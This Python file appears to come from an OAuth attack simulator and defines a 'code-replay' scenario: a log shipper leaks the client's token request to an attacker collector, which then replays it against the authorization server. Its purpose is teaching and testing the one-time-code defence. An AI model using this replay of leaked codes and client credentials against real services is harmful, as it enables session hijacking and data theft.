"""code-replay: a leaked authorization code is presented again after the client used it.
One-time codes, and revocation of the tokens already issued from the code, stop it
(RFC 6749 §4.1.2, §10.5; RFC 9700 §4.2.4).

Alice logs in at the confidential web client as in happy-path. The client's token request
leaks whole: a misconfigured log shipper (`sim.client.logship`) sends the client's debug log
of it to a collector the attacker reads (drawn as client -> attacker). That line holds
everything the request carried: the code, the PKCE code_verifier and the client's own
credentials (HTTP Basic, client_id and secret). So neither PKCE nor client authentication
helps here: the attacker can send the request again, byte for byte.

With the defence on, the server sees a code that was already used: invalid_grant, and it
revokes the tokens issued from that code, so alice's session at the client is cut off too
(her next page: the API refuses the access token, the client's refresh is refused, and the
client ends her session). With it off, the replay is just another valid token request: the
attacker gets a second set of tokens and reads alice's profile.

What one-time use cannot do, in RFC 9700 §4.2.4's words: "This does not mitigate the attack
if the attacker manages to exchange the code for a token before the legitimate client does
so. Therefore, [RFC6749] further recommends that, when an attempt is made to redeem a code
twice, the authorization server SHOULD revoke all tokens issued previously based on that
code." Here the client redeemed first, so the replay is the second attempt.
"""

from __future__ import annotations

from sim import defences
from sim.parties import ATTACKER, AUTHORIZATION_SERVER, CLIENT
from sim.scenarios.attack_common import ALICES_PHOTO, error_of, profile_owner, read_profile
from sim.scenarios.base import (
    AttackScenario,
    Attempt,
    Guard,
    ScenarioError,
    StepNote,
    log_in_and_consent,
    step,
)


class CodeReplay(AttackScenario):
    name = "code-replay"
    description = (
        "A leaked token request (code, verifier, client credentials) is replayed after the "
        "client used it (one-time codes)"
    )
    rfc = "RFC 6749 §4.1.2, §10.5; RFC 9700 §4.2.4"
    guards = (
        Guard(
            defences.ONE_TIME_CODE,
            step(ATTACKER, AUTHORIZATION_SERVER, "POST", "/token"),
            "this code was already used: invalid_grant, and the tokens issued from it are revoked",
            "the used code is accepted again and issues a second set of tokens",
            "RFC 6749 §4.1.2, RFC 9700 §4.2.4",
        ),
    )

    notes = (
        StepNote(
            step(CLIENT, ATTACKER, "POST", "/log"),
            "A misconfigured log shipper sends the client's debug log of its token request to "
            "a collector the attacker reads. The line holds the whole request: the code, the "
            "PKCE code_verifier and the client's own credentials (HTTP Basic). With all three, "
            "PKCE and client authentication cannot tell the attacker from the client.",
            "RFC 9700 §4.2.4, RFC 6749 §10.5",
        ),
        StepNote(
            step(ATTACKER, AUTHORIZATION_SERVER, "POST", "/token", lambda e: e.status >= 400),
            "The replay, byte for byte, is refused: the code was already used (invalid_grant), "
            "and the server revokes the tokens it issued from it. One-time use works here "
            'because the client redeemed first; RFC 9700 §4.2.4: "This does not mitigate the '
            "attack if the attacker manages to exchange the code for a token before the "
            'legitimate client does so." Then the revocation is what cuts the thief off.',
            "RFC 9700 §4.2.4, RFC 6749 §4.1.2",
        ),
        StepNote(
            step(CLIENT, AUTHORIZATION_SERVER, "POST", "/token", lambda e: e.status >= 400),
            "Alice's next page: the API refused the revoked access token (invalid_token), and "
            "the client's refresh token was revoked with it: invalid_grant. The client ends "
            "her session; she logs in again.",
            "RFC 6749 §4.1.2, RFC 6750 §3.1",
        ),
    )

    def settings(self, stage) -> dict:
        return {"request_log_to": stage.attacker_url + "/log"}

    def attack(self, stage, flow, off, attacker) -> Attempt:
        victim = stage.user_agent(flow)
        home = log_in_and_consent(victim, victim.get(stage.client_url + "/login"))
        if ALICES_PHOTO not in home.text:
            raise ScenarioError("alice's login at the client did not succeed")
        leaked = next(
            (
                i["params"]
                for i in attacker.loot("log")
                if "authorization_code" in i["params"].get("body", "")
            ),
            None,
        )
        if leaked is None:
            raise ScenarioError("the client's token request never reached the log collector")
        replay = attacker.http.post(
            leaked["url"],
            data=leaked["body"].encode(),
            headers={
                "Authorization": leaked["authorization"],
                "Content-Type": "application/x-www-form-urlencoded",
            },
            timeout=10,
        )
        profile = (
            read_profile(attacker.http, stage, replay.json()["access_token"]) if replay.ok else None
        )
        owner = profile_owner(profile)
        again = victim.get(stage.client_url + "/")  # alice reloads the client's page
        return Attempt(
            {
                "leaked": sorted(k for k in ("code", "code_verifier") if f"{k}=" in leaked["body"])
                + (["client credentials"] if leaked["authorization"] else []),
                "replay_status": replay.status_code,
                "replay_error": error_of(replay) or None,
                "attacker_read_profile_of": owner,
                "victim_session_still_works": ALICES_PHOTO in again.text,
            },
            proof=profile if owner == "alice" else None,
            proves="the attacker reads alice's profile with tokens from the replayed code",
        )


SCENARIOS = [CodeReplay()]
